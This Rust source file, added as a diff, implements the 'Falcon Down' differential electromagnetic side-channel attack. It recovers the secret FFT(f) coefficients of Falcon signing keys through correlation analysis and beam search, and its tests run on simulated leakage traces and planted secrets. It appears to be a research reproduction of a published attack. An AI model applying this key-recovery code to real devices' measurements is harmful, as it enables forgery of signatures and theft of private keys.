@@ -1,0 +1,771 @@
+//! The *Falcon Down* differential EM attack.
+//!
+//! Divide-and-conquer recovery of each `FFT(f)` coefficient (paper
+//! §III.B–C): the sign, exponent and mantissa are recovered separately
+//! and reassembled. The mantissa halves use the **extend-and-prune**
+//! strategy: candidate guesses are scored by correlating against the
+//! schoolbook *multiplication* partial products (extend — which by itself
+//! produces shift-related false positives), then re-ranked against the
+//! intermediate *additions*, whose alignment-sensitive carries eliminate
+//! the false positives (prune).
+//!
+//! Two modes are provided:
+//!
+//! * [`recover_coefficient`] — incremental extend-and-prune: the secret
+//!   halves are grown LSB-first in `step_bits` windows under a beam,
+//!   exact full recovery with tractable compute (the low `m` bits of a
+//!   product depend only on the low `m` bits of each factor);
+//! * [`monolithic_correlations`] — the paper's one-shot enumeration of a
+//!   whole window (up to the full 2^25/2^27 guess space) producing the
+//!   correlation matrices behind Figure 4.
+
+use crate::acquire::Dataset;
+use crate::cpa::CorrMatrix;
+use crate::model::{
+    assemble_coefficient, hyp_add_hi, hyp_add_lo, hyp_exponent_with_carry, hyp_partial_product,
+    hyp_sign, KnownOperand, SecretHalf,
+};
+use falcon_emsim::StepKind;
+
+/// Tuning knobs for the incremental recovery.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct AttackConfig {
+    /// Bits added per extend level.
+    pub step_bits: u32,
+    /// Candidates kept after each level.
+    pub beam_width: usize,
+}
+
+impl Default for AttackConfig {
+    fn default() -> Self {
+        AttackConfig { step_bits: 8, beam_width: 64 }
+    }
+}
+
+/// Outcome of recovering one component, with its distinguishing margin.
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub struct ComponentResult {
+    /// The winning guess value.
+    pub value: u64,
+    /// Correlation of the winner.
+    pub corr: f64,
+    /// Correlation of the runner-up (distinguishing margin diagnostics).
+    pub runner_up: f64,
+}
+
+/// Full recovery result for one secret `FFT(f)` value.
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub struct CoefficientResult {
+    /// Reassembled 64-bit coefficient.
+    pub bits: u64,
+    /// Sign recovery details.
+    pub sign: ComponentResult,
+    /// Exponent recovery details.
+    pub exponent: ComponentResult,
+    /// Low mantissa half (25 bits).
+    pub mant_lo: ComponentResult,
+    /// High mantissa half (28 bits, implicit one included).
+    pub mant_hi: ComponentResult,
+}
+
+/// Runs `f` over chunks of `items` on all available cores, preserving
+/// order.
+fn parallel_map<T: Sync, R: Send + Default + Clone, F: Fn(&T) -> R + Sync>(
+    items: &[T],
+    f: F,
+) -> Vec<R> {
+    let threads = std::thread::available_parallelism().map(|v| v.get()).unwrap_or(1);
+    if items.len() < 256 || threads == 1 {
+        return items.iter().map(&f).collect();
+    }
+    let mut out = vec![R::default(); items.len()];
+    let chunk = items.len().div_ceil(threads);
+    std::thread::scope(|scope| {
+        for (inp, outp) in items.chunks(chunk).zip(out.chunks_mut(chunk)) {
+            scope.spawn(|| {
+                for (i, o) in inp.iter().zip(outp.iter_mut()) {
+                    *o = f(i);
+                }
+            });
+        }
+    });
+    out
+}
+
+/// The per-trace data needed to score mantissa hypotheses for one target:
+/// known operands and the relevant sample columns.
+struct TargetColumns {
+    /// `(known, sample)` pairs for each product column in use.
+    cols: Vec<(Vec<u32>, Vec<f32>)>,
+    /// Full known operands per (trace, occurrence), for exact models.
+    knowns: Vec<KnownOperand>,
+    /// Prune-step samples per (trace, occurrence).
+    prune: Vec<f32>,
+    /// Top-word accumulation samples (`AddHiHi`), the cross-half prune
+    /// column.
+    extra_prune: Vec<f32>,
+}
+
+fn product_columns(ds: &Dataset, target: usize, half: SecretHalf) -> TargetColumns {
+    let (step_with_lo, step_with_hi, prune_step) = match half {
+        SecretHalf::Low => (StepKind::PpLoLo, StepKind::PpLoHi, StepKind::AddLoHi),
+        SecretHalf::High => (StepKind::PpHiLo, StepKind::PpHiHi, StepKind::AddHiHi),
+    };
+    let mut cols = Vec::new();
+    let mut knowns = Vec::new();
+    let mut prune = Vec::new();
+    let mut extra_prune = Vec::new();
+    for occ in 0..2 {
+        let kcol: Vec<KnownOperand> =
+            ds.known_column(target, occ).into_iter().map(KnownOperand::new).collect();
+        cols.push((kcol.iter().map(|k| k.lo).collect(), ds.sample_column(target, occ, step_with_lo)));
+        cols.push((kcol.iter().map(|k| k.hi).collect(), ds.sample_column(target, occ, step_with_hi)));
+        prune.extend(ds.sample_column(target, occ, prune_step));
+        extra_prune.extend(ds.sample_column(target, occ, StepKind::AddHiHi));
+        knowns.extend(kcol);
+    }
+    TargetColumns { cols, knowns, prune, extra_prune }
+}
+
+impl TargetColumns {
+    /// Correlation of the partial-product model for `cand` (low `m_bits`
+    /// of the secret half) across all product columns, together with the
+    /// hypothesis variance (a candidate with near-constant hypotheses is
+    /// statistically handicapped in the correlation ranking, not
+    /// refuted).
+    fn extend_score(
+        &self,
+        cand: u64,
+        m_bits: u32,
+        full_width: u32,
+        max_points: usize,
+    ) -> (f64, f64) {
+        // Pearson over the concatenation of all columns, capped at
+        // `max_points` per column (intermediate beam levels only need
+        // enough statistics to keep the truth alive; the final level and
+        // the prune always use the full campaign).
+        let mut sums = PearsonSums::default();
+        for (kn, samples) in &self.cols {
+            for (&k, &t) in kn.iter().zip(samples).take(max_points) {
+                let h = hyp_partial_product(cand, m_bits, k, full_width);
+                sums.push(h, t as f64);
+            }
+        }
+        (sums.corr(), sums.hyp_variance())
+    }
+
+    /// Correlation of the exact addition (prune) model. For the low half
+    /// with a recovered high half available, the top-word accumulation
+    /// (`AddHiHi`) joins the score: it mixes both halves and remains
+    /// informative even for the degenerate all-zero low half, whose own
+    /// partial products are constants.
+    fn prune_score(&self, half: SecretHalf, cand: u64, other_half: Option<u64>) -> f64 {
+        let mut sums = PearsonSums::default();
+        for (i, k) in self.knowns.iter().enumerate() {
+            match half {
+                SecretHalf::Low => {
+                    sums.push(hyp_add_lo(cand, k), self.prune[i] as f64);
+                    if let Some(c_hi) = other_half {
+                        sums.push(hyp_add_hi(c_hi, cand, k), self.extra_prune[i] as f64);
+                    }
+                }
+                SecretHalf::High => {
+                    sums.push(hyp_add_hi(cand, other_half.unwrap_or(0), k), self.prune[i] as f64);
+                }
+            }
+        }
+        sums.corr()
+    }
+}
+
+/// Streaming Pearson sums.
+#[derive(Debug, Default, Clone, Copy)]
+struct PearsonSums {
+    d: f64,
+    sh: f64,
+    sh2: f64,
+    st: f64,
+    st2: f64,
+    sht: f64,
+}
+
+impl PearsonSums {
+    #[inline]
+    fn push(&mut self, h: f64, t: f64) {
+        self.d += 1.0;
+        self.sh += h;
+        self.sh2 += h * h;
+        self.st += t;
+        self.st2 += t * t;
+        self.sht += h * t;
+    }
+
+    fn corr(&self) -> f64 {
+        let num = self.d * self.sht - self.sh * self.st;
+        let den =
+            ((self.d * self.sh2 - self.sh * self.sh) * (self.d * self.st2 - self.st * self.st)).sqrt();
+        if den <= 0.0 {
+            0.0
+        } else {
+            num / den
+        }
+    }
+
+    /// Sample variance of the hypothesis side.
+    fn hyp_variance(&self) -> f64 {
+        if self.d < 2.0 {
+            return 0.0;
+        }
+        (self.sh2 - self.sh * self.sh / self.d) / (self.d - 1.0)
+    }
+}
+
+fn top_two(scored: &[(u64, f64)]) -> ComponentResult {
+    let mut best = (0u64, f64::NEG_INFINITY);
+    let mut second = f64::NEG_INFINITY;
+    for &(v, c) in scored {
+        if c > best.1 {
+            second = best.1;
+            best = (v, c);
+        } else if c > second {
+            second = c;
+        }
+    }
+    ComponentResult { value: best.0, corr: best.1, runner_up: second }
+}
+
+/// Recovers one mantissa half by incremental extend-and-prune.
+pub fn recover_mantissa_half(
+    ds: &Dataset,
+    target: usize,
+    half: SecretHalf,
+    other_half: Option<u64>,
+    cfg: &AttackConfig,
+) -> ComponentResult {
+    let full_width = match half {
+        SecretHalf::Low => 25,
+        SecretHalf::High => 28,
+    };
+    let tc = product_columns(ds, target, half);
+    let mut beam: Vec<u64> = vec![0];
+    let mut m_bits = 0u32;
+    while m_bits < full_width {
+        let next = (m_bits + cfg.step_bits).min(full_width);
+        let ext = next - m_bits;
+        let mut cands: Vec<u64> = Vec::with_capacity(beam.len() << ext);
+        for &b in &beam {
+            for e in 0u64..(1 << ext) {
+                cands.push(b | (e << m_bits));
+            }
+        }
+        if next == full_width && half == SecretHalf::High {
+            // The implicit leading one pins bit 27.
+            cands.retain(|c| c >> 27 == 1);
+        }
+        // Intermediate levels subsample the campaign; the final level is
+        // scored on everything.
+        let max_points = if next == full_width { usize::MAX } else { 4000 };
+        let scores =
+            parallel_map(&cands, |&c| tc.extend_score(c, next, full_width, max_points));
+        // Correlation handicaps candidates with low hypothesis variance
+        // (prefixes with trailing zero bits modulate few product bits; an
+        // all-zero prefix is entirely constant and unfalsifiable). Keep
+        // them alive alongside the correlation ranking rather than let a
+        // shift-family impostor evict the truth.
+        let mut hvars: Vec<f64> = scores.iter().map(|&(_, v)| v).collect();
+        hvars.sort_by(f64::total_cmp);
+        let median_hvar = hvars[hvars.len() / 2];
+        let mut scored: Vec<(u64, f64, f64)> =
+            cands.into_iter().zip(scores).map(|(c, (r, v))| (c, r, v)).collect();
+        scored.sort_by(|a, b| b.1.partial_cmp(&a.1).unwrap_or(core::cmp::Ordering::Equal));
+        let keep = cfg.beam_width.max(1);
+        // Most-handicapped first: a zero-variance candidate (the all-zero
+        // prefix) is entirely unfalsifiable and must always survive.
+        let mut handicapped: Vec<(u64, f64)> = scored
+            .iter()
+            .skip(keep)
+            .filter(|&&(_, _, v)| v < 0.5 * median_hvar)
+            .map(|&(c, _, v)| (c, v))
+            .collect();
+        handicapped.sort_by(|a, b| a.1.total_cmp(&b.1));
+        let mut protected: Vec<u64> =
+            handicapped.into_iter().map(|(c, _)| c).take(keep).collect();
+        scored.truncate(keep);
+        beam = scored.into_iter().map(|(v, _, _)| v).collect();
+        beam.append(&mut protected);
+        m_bits = next;
+    }
+    // The multiplication cannot separate shift families at all: for even
+    // `d`, `HW(d·B) = HW((d/2)·B)` exactly, so the extend phase pins down
+    // an equivalence class rather than a value (the paper's false
+    // positives). Close the class explicitly — add every in-range shift
+    // of each survivor — and let the addition decide.
+    let mask = (1u64 << full_width) - 1;
+    let mut final_set = beam.clone();
+    for &c in &beam {
+        for k in 1..full_width {
+            final_set.push(c >> k);
+            let up = (c << k) & mask;
+            if up >> k == c {
+                final_set.push(up);
+            }
+        }
+    }
+    if half == SecretHalf::High {
+        final_set.retain(|c| c >> 27 == 1);
+        if final_set.is_empty() {
+            final_set = beam;
+        }
+    }
+    final_set.sort_unstable();
+    final_set.dedup();
+
+    // Prune phase: re-rank the candidates against the intermediate
+    // addition.
+    let scores = parallel_map(&final_set, |&c| tc.prune_score(half, c, other_half));
+    let scored: Vec<(u64, f64)> = final_set.into_iter().zip(scores).collect();
+    top_two(&scored)
+}
+
+/// Recovers the sign bit by correlating the XOR step.
+pub fn recover_sign(ds: &Dataset, target: usize) -> ComponentResult {
+    let mut scored = Vec::with_capacity(2);
+    for guess in 0u32..2 {
+        let mut sums = PearsonSums::default();
+        for occ in 0..2 {
+            let knowns = ds.known_column(target, occ);
+            let samples = ds.sample_column(target, occ, StepKind::SignXor);
+            for (&kb, &t) in knowns.iter().zip(&samples) {
+                sums.push(hyp_sign(guess, &KnownOperand::new(kb)), t as f64);
+            }
+        }
+        scored.push((guess as u64, sums.corr()));
+    }
+    // The correct sign yields the positive correlation (the wrong one is
+    // its mirror image), as the paper observes for Figure 4(e).
+    top_two(&scored)
+}
+
+/// Jointly recovers the sign bit and the 11-bit biased exponent field
+/// given fully recovered mantissa halves.
+///
+/// A pure CPA on the exponent-addition word alone can alias: two
+/// exponent guesses whose predicted words differ only in bits above the
+/// known operand's (narrow) exponent spread produce hypothesis series
+/// that differ by a constant, to which Pearson correlation is blind.
+/// Scoring the candidates against the operand-fetch word as well — where
+/// every secret bit is XOR-combined with *varying* known bits — breaks
+/// the tie exactly, so the joint recovery scores each `(sign, exponent)`
+/// pair with the exact micro-op models of the `OperandLoad`,
+/// `ExponentAdd` and `SignXor` steps together.
+pub fn recover_sign_exponent(
+    ds: &Dataset,
+    target: usize,
+    c_hi: u64,
+    d_lo: u64,
+) -> (ComponentResult, ComponentResult) {
+    let mantissa = ((c_hi & 0x7FF_FFFF) << 25) | d_lo;
+    // Per-(trace, occurrence) precomputation: everything that does not
+    // depend on the (sign, exponent) guess.
+    struct Pre {
+        /// HW of the mantissa-range XOR of the OperandLoad word.
+        load_low_hw: u32,
+        /// Top 12 bits of the rotated known operand (XORed against
+        /// sign‖exponent in the OperandLoad word).
+        rot_top: u32,
+        /// Known biased exponent plus the exactly-modelled carry, minus
+        /// the rebias constant.
+        exp_base: i32,
+        /// Known sign bit.
+        sign: u32,
+        /// Samples: OperandLoad, ExponentAdd, SignXor.
+        s_load: f64,
+        s_exp: f64,
+        s_sign: f64,
+    }
+    let mut pre = Vec::with_capacity(2 * ds.traces());
+    for occ in 0..2 {
+        let knowns = ds.known_column(target, occ);
+        let s_load = ds.sample_column(target, occ, StepKind::OperandLoad);
+        let s_exp = ds.sample_column(target, occ, StepKind::ExponentAdd);
+        let s_sign = ds.sample_column(target, occ, StepKind::SignXor);
+        for (i, &kb) in knowns.iter().enumerate() {
+            let k = KnownOperand::new(kb);
+            let rot = kb.rotate_left(32);
+            let mant_mask = (1u64 << 52) - 1;
+            // Carry from the exactly-known mantissa pipeline.
+            let words = crate::model::step_words(
+                crate::model::assemble_coefficient(0, 1023, c_hi, d_lo),
+                &k,
+            );
+            let zu = words[StepKind::StickyFold as usize];
+            let carry = (zu >> 55) as i32;
+            pre.push(Pre {
+                load_low_hw: ((mantissa ^ rot) & mant_mask).count_ones(),
+                rot_top: (rot >> 52) as u32,
+                exp_base: k.exp as i32 - 2100 + carry,
+                sign: k.sign,
+                s_load: s_load[i] as f64,
+                s_exp: s_exp[i] as f64,
+                s_sign: s_sign[i] as f64,
+            });
+        }
+    }
+    let mut scored: Vec<(u64, f64)> = Vec::with_capacity(2 * 2046);
+    for sign in 0u32..2 {
+        for ef in 1u32..2047 {
+            let top = (sign << 11) | ef;
+            let mut sums = PearsonSums::default();
+            for p in &pre {
+                let h_load = (p.load_low_hw + (top ^ p.rot_top).count_ones()) as f64;
+                let h_exp = ((p.exp_base + ef as i32) as u32).count_ones() as f64;
+                let h_sign = (sign ^ p.sign) as f64;
+                sums.push(h_load, p.s_load);
+                sums.push(h_exp, p.s_exp);
+                sums.push(h_sign, p.s_sign);
+            }
+            scored.push((
+                crate::model::assemble_coefficient(sign, ef, c_hi, d_lo),
+                sums.corr(),
+            ));
+        }
+    }
+    let best = top_two(&scored);
+    let bits = best.value;
+    let sign = ComponentResult { value: bits >> 63, ..best };
+    let exponent = ComponentResult { value: (bits >> 52) & 0x7FF, ..best };
+    (sign, exponent)
+}
+
+/// Attacker-side confidence in an assembled coefficient: the Pearson
+/// correlation of the exact all-steps model against every recorded
+/// sample of the coefficient's two multiplications. Correct recoveries
+/// score near the channel's SNR ceiling; a wrong mantissa or exponent
+/// drags the score down measurably.
+pub fn coefficient_confidence(ds: &Dataset, target: usize, bits: u64) -> f64 {
+    let mut sums = PearsonSums::default();
+    for occ in 0..2 {
+        let knowns = ds.known_column(target, occ);
+        let cols: Vec<Vec<f32>> =
+            StepKind::ALL.iter().map(|&s| ds.sample_column(target, occ, s)).collect();
+        for (i, &kb) in knowns.iter().enumerate() {
+            let words = crate::model::step_words(bits, &KnownOperand::new(kb));
+            for (s, col) in cols.iter().enumerate() {
+                sums.push(words[s].count_ones() as f64, col[i] as f64);
+            }
+        }
+    }
+    sums.corr()
+}
+
+/// Recovers the 11-bit biased exponent field, using the recovered
+/// mantissa halves to model the normalisation carry exactly.
+///
+/// Note: this single-step CPA mirrors the paper's Figure 4(b) target but
+/// can alias between exponent guesses when the known exponents span a
+/// narrow range (see [`recover_sign_exponent`], which the full pipeline
+/// uses instead).
+pub fn recover_exponent(ds: &Dataset, target: usize, c_hi: u64, d_lo: u64) -> ComponentResult {
+    let knowns: Vec<Vec<KnownOperand>> = (0..2)
+        .map(|occ| ds.known_column(target, occ).into_iter().map(KnownOperand::new).collect())
+        .collect();
+    let samples: Vec<Vec<f32>> =
+        (0..2).map(|occ| ds.sample_column(target, occ, StepKind::ExponentAdd)).collect();
+    let guesses: Vec<u64> = (1..2047).collect();
+    let scores = parallel_map(&guesses, |&ef| {
+        let mut sums = PearsonSums::default();
+        for occ in 0..2 {
+            for (k, &t) in knowns[occ].iter().zip(&samples[occ]) {
+                sums.push(hyp_exponent_with_carry(ef as u32, c_hi, d_lo, k), t as f64);
+            }
+        }
+        sums.corr()
+    });
+    let scored: Vec<(u64, f64)> = guesses.into_iter().zip(scores).collect();
+    top_two(&scored)
+}
+
+/// Recovers one full `FFT(f)` coefficient by divide-and-conquer.
+pub fn recover_coefficient(ds: &Dataset, target: usize, cfg: &AttackConfig) -> CoefficientResult {
+    // Alternating refinement: each half's *extend* targets are
+    // independent of the other half, but the *prune* additions mix the
+    // halves (`zu = C·A + carries(D)`), so the halves are re-pruned with
+    // each other's latest estimate until the pair is stable. This also
+    // resolves the degenerate all-zero low half, which is invisible to
+    // its own products and only betrayed by the cross-half accumulation.
+    let mut mant_lo = recover_mantissa_half(ds, target, SecretHalf::Low, None, cfg);
+    let mut mant_hi =
+        recover_mantissa_half(ds, target, SecretHalf::High, Some(mant_lo.value), cfg);
+    for _ in 0..2 {
+        let lo = recover_mantissa_half(ds, target, SecretHalf::Low, Some(mant_hi.value), cfg);
+        let lo_stable = lo.value == mant_lo.value;
+        mant_lo = lo;
+        if lo_stable {
+            // Fixed point: the high half was computed from this very low
+            // half, so re-running it would reproduce itself.
+            break;
+        }
+        let hi = recover_mantissa_half(ds, target, SecretHalf::High, Some(mant_lo.value), cfg);
+        let hi_stable = hi.value == mant_hi.value;
+        mant_hi = hi;
+        if hi_stable {
+            break;
+        }
+    }
+    let (sign, exponent) = recover_sign_exponent(ds, target, mant_hi.value, mant_lo.value);
+    let bits = assemble_coefficient(
+        sign.value as u32,
+        exponent.value as u32,
+        mant_hi.value,
+        mant_lo.value,
+    );
+    CoefficientResult { bits, sign, exponent, mant_lo, mant_hi }
+}
+
+/// Recovers every targeted coefficient of the dataset.
+pub fn recover_all(ds: &Dataset, cfg: &AttackConfig) -> Vec<CoefficientResult> {
+    ds.targets().iter().map(|&t| recover_coefficient(ds, t, cfg)).collect()
+}
+
+/// Recovers every targeted coefficient with a confidence-guided retry:
+/// coefficients whose exact-model confidence falls visibly below the
+/// cohort's median — the attacker-side signature of a wrong beam
+/// decision — are re-attacked with a wider beam and finer extend steps.
+///
+/// Returns the results together with each coefficient's final
+/// confidence.
+pub fn recover_all_verified(ds: &Dataset, cfg: &AttackConfig) -> Vec<(CoefficientResult, f64)> {
+    let mut out: Vec<(CoefficientResult, f64)> = ds
+        .targets()
+        .iter()
+        .map(|&t| {
+            let r = recover_coefficient(ds, t, cfg);
+            let conf = coefficient_confidence(ds, t, r.bits);
+            (r, conf)
+        })
+        .collect();
+    let mut confs: Vec<f64> = out.iter().map(|(_, c)| *c).collect();
+    confs.sort_by(f64::total_cmp);
+    let median = confs[confs.len() / 2];
+    // Robust spread estimate: correct recoveries cluster tightly at the
+    // channel's SNR ceiling, so anything well below the cohort is
+    // suspect.
+    let mut devs: Vec<f64> = confs.iter().map(|c| (c - median).abs()).collect();
+    devs.sort_by(f64::total_cmp);
+    let mad = devs[devs.len() / 2];
+    let cutoff = median - (5.0 * mad).max(0.01);
+    let wide = AttackConfig {
+        step_bits: cfg.step_bits.saturating_sub(2).max(4),
+        beam_width: cfg.beam_width * 8,
+    };
+    for (i, &t) in ds.targets().iter().enumerate() {
+        if out[i].1 >= cutoff {
+            continue;
+        }
+        let r = recover_coefficient(ds, t, &wide);
+        let conf = coefficient_confidence(ds, t, r.bits);
+        if conf > out[i].1 {
+            out[i] = (r, conf);
+        }
+    }
+    out
+}
+
+/// The paper's monolithic window attack: enumerates all `2^width`
+/// guesses of the low window of a mantissa half (`rest` supplies the
+/// remaining high bits when `width` is scaled down; zero for the full
+/// 25/27-bit runs) and returns the correlation matrices of the extend
+/// step (multiplication — exhibits false positives) and the prune step
+/// (addition — eliminates them), with one time column per micro-op of
+/// the first-occurrence multiplication.
+pub fn monolithic_correlations(
+    ds: &Dataset,
+    target: usize,
+    half: SecretHalf,
+    width: u32,
+    rest: u64,
+    d_lo_for_high: u64,
+) -> (Vec<u64>, CorrMatrix, CorrMatrix) {
+    let guesses: Vec<u64> = (0..(1u64 << width)).map(|g| (rest << width) | g).collect();
+    let mut extend = CorrMatrix::new(guesses.len(), StepKind::COUNT);
+    let mut prune = CorrMatrix::new(guesses.len(), StepKind::COUNT);
+    let full_width = match half {
+        SecretHalf::Low => 25,
+        SecretHalf::High => 28,
+    };
+    let wmask = (1u64 << width) - 1;
+    for trace in 0..ds.traces() {
+        for occ in 0..2 {
+            let k = KnownOperand::new(ds.known(trace, target, occ));
+            let window: Vec<f32> =
+                StepKind::ALL.iter().map(|&s| ds.sample(trace, target, occ, s)).collect();
+            // Extend hypothesis: the product's low `width` bits, which
+            // depend only on the guessed window — this is where the
+            // paper's shift-family false positives live (for the full
+            // 25/27-bit width it is the complete product word).
+            let ext_hyps = parallel_map(&guesses, |&g| {
+                hyp_partial_product(g & wmask, width, k.lo, full_width)
+            });
+            let prune_hyps = parallel_map(&guesses, |&g| match half {
+                SecretHalf::Low => hyp_add_lo(g, &k),
+                SecretHalf::High => hyp_add_hi(g, d_lo_for_high, &k),
+            });
+            extend.update(&ext_hyps, &window);
+            prune.update(&prune_hyps, &window);
+        }
+    }
+    (guesses, extend, prune)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::acquire::Dataset;
+    use falcon_emsim::{Device, LeakageModel, MeasurementChain, Scope};
+    use falcon_sig::rng::Prng;
+    use falcon_sig::{KeyPair, LogN};
+
+    fn bench(noise: f64, seed: &[u8]) -> Device {
+        let mut rng = Prng::from_seed(seed);
+        let kp = KeyPair::generate(LogN::new(3).unwrap(), &mut rng);
+        let chain = MeasurementChain {
+            model: LeakageModel::hamming_weight(1.0, noise),
+            lowpass: 0.0,
+            scope: Scope { enabled: false, ..Default::default() },
+        };
+        Device::new(kp.into_parts().0, chain, b"attack bench")
+    }
+
+    fn ground_truth(dev: &Device, target: usize) -> u64 {
+        dev.signing_key().f_fft()[target].to_bits()
+    }
+
+    #[test]
+    fn recovers_coefficient_from_noiseless_traces() {
+        let mut dev = bench(0.0, b"attack key 1");
+        let truth = ground_truth(&dev, 1);
+        let mut mrng = Prng::from_seed(b"attack msgs");
+        let ds = Dataset::collect(&mut dev, &[1], 48, &mut mrng);
+        let cfg = AttackConfig::default();
+        let r = recover_coefficient(&ds, 1, &cfg);
+        assert_eq!(
+            r.bits, truth,
+            "recovered {:#018x}, truth {:#018x} (lo {:#x}/{:#x} hi {:#x} exp {:#x} sign {})",
+            r.bits,
+            truth,
+            r.mant_lo.value,
+            (falcon_fpr::Fpr::from_bits(truth).mantissa_bits() | (1 << 52)) & 0x1FF_FFFF,
+            r.mant_hi.value,
+            r.exponent.value,
+            r.sign.value,
+        );
+    }
+
+    #[test]
+    fn recovers_coefficient_under_noise() {
+        let mut dev = bench(2.0, b"attack key 2");
+        let truth = ground_truth(&dev, 3);
+        let mut mrng = Prng::from_seed(b"attack msgs noisy");
+        let ds = Dataset::collect(&mut dev, &[3], 600, &mut mrng);
+        let cfg = AttackConfig::default();
+        let r = recover_coefficient(&ds, 3, &cfg);
+        assert_eq!(r.bits, truth, "recovered {:#018x}, truth {:#018x}", r.bits, truth);
+        assert!(r.mant_lo.corr > r.mant_lo.runner_up);
+    }
+
+    /// Builds a synthetic dataset whose samples are the *exact* leakage
+    /// model values for a planted secret — isolating the recovery logic
+    /// from the device/acquisition plumbing.
+    fn synthetic_dataset(secret: u64, knowns: &[u64]) -> Dataset {
+        use crate::model::step_words;
+        let n = 8usize; // layout degree; target index 0
+        let traces = knowns.len();
+        let mut ks = Vec::with_capacity(traces * 2);
+        let mut points = Vec::with_capacity(traces * crate::acquire::POINTS_PER_TARGET);
+        for (i, &k) in knowns.iter().enumerate() {
+            // Two occurrences with different known operands.
+            let k2 = knowns[(i + traces / 2) % traces].rotate_left(1) | 1 << 52;
+            for kb in [k, k2] {
+                ks.push(kb);
+                let words = step_words(secret, &crate::model::KnownOperand::new(kb));
+                for w in words {
+                    points.push(w.count_ones() as f32);
+                }
+            }
+        }
+        Dataset::from_raw_parts(n, vec![0], traces, ks, points)
+    }
+
+    proptest::proptest! {
+        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(10))]
+        #[test]
+        fn recovers_random_planted_coefficients(
+            mant in 0u64..(1u64 << 52),
+            exp in 1u64..2047,
+            sign in 0u64..2,
+            seed in proptest::prelude::any::<u64>(),
+        ) {
+            let secret = (sign << 63) | (exp << 52) | mant;
+            // Plausible known operands: normal fprs with varied mantissas
+            // and a narrow exponent band (like real FFT(c) values).
+            let mut state = seed | 1;
+            let mut next = || {
+                state = state.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
+                state
+            };
+            let knowns: Vec<u64> = (0..128)
+                .map(|_| {
+                    let m = next() & ((1u64 << 52) - 1);
+                    let e = 1030 + (next() % 8);
+                    let s = next() & (1 << 63);
+                    s | (e << 52) | m
+                })
+                .collect();
+            let ds = synthetic_dataset(secret, &knowns);
+            let r = recover_coefficient(&ds, 0, &AttackConfig::default());
+            proptest::prop_assert_eq!(
+                r.bits, secret,
+                "planted {:#018x}, recovered {:#018x}", secret, r.bits
+            );
+        }
+    }
+
+    #[test]
+    fn recovers_trailing_zero_mantissa() {
+        // Regression: the all-zero low window has a constant hypothesis;
+        // the beam must keep it alive (it once pruned such secrets).
+        let secret = 0x4030_0000_0F00_0000u64; // many trailing zeros
+        let knowns: Vec<u64> = (0..40)
+            .map(|i: u64| {
+                let m = i.wrapping_mul(0x9E37_79B9_7F4A_7C15) & ((1u64 << 52) - 1);
+                (1031u64 << 52) | m
+            })
+            .collect();
+        let ds = synthetic_dataset(secret, &knowns);
+        let r = recover_coefficient(&ds, 0, &AttackConfig::default());
+        assert_eq!(r.bits, secret, "recovered {:#018x}", r.bits);
+    }
+
+    #[test]
+    fn monolithic_extend_has_false_positives_prune_resolves() {
+        let mut dev = bench(1.0, b"attack key 3");
+        let truth = ground_truth(&dev, 0);
+        let tm = falcon_fpr::Fpr::from_bits(truth).mantissa_bits() | (1 << 52);
+        let d_true = tm & 0x1FF_FFFF;
+        let width = 8u32;
+        let rest = d_true >> width;
+        let mut mrng = Prng::from_seed(b"mono msgs");
+        let ds = Dataset::collect(&mut dev, &[0], 400, &mut mrng);
+        let (guesses, extend, prune) =
+            monolithic_correlations(&ds, 0, SecretHalf::Low, width, rest, 0);
+        let correct_idx = (d_true & ((1 << width) - 1)) as usize;
+        assert_eq!(guesses[correct_idx], d_true);
+        // Prune: the correct candidate wins on the addition step.
+        let prune_rank = prune.ranking();
+        assert_eq!(prune_rank[0].0, correct_idx, "prune must single out the true mantissa");
+        // Extend: the multiplication step correlates for the correct
+        // guess too, but with close companions (shift family).
+        let (s_ext, c_ext) = extend.peak(correct_idx);
+        assert!(c_ext > 0.2, "extend peak too weak: {c_ext} at {s_ext}");
+    }
+}
